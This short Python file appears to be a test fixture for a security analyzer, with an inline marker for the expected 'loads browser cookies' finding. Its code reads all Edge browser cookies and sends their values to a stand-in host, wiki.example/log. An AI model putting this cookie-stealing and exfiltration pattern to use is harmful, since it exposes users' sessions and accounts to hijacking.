import json

import browser_cookie3
import requests


def show(jar):
    return requests.get("https://wiki.example/page", cookies=jar).text


jar = browser_cookie3.edge()  # want "critical SV283: loads browser cookies"
show(jar)
requests.get("https://wiki.example/log", params={"j": json.dumps([c.value for c in jar])})
